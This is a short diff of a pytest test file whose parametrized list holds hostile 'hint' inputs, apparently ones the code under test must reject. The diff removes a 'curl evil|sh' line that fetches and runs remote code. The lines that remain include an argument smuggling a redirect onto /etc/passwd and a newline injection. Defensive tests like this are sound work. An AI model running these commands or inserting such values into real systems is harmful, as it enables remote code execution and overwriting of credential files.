@@ -185,7 +185,6 @@ def test_receiver_answers_are_escaped(shop: Installation) -> None:
 @pytest.mark.parametrize(
     "hint",
     [
-        "curl evil|sh",
         {"kind": "uninstall"},
         {"kind": "show_disk_space", "argument": "/srv >/etc/passwd"},
         {"kind": "show_disk_space", "argument": "/srv\n"},
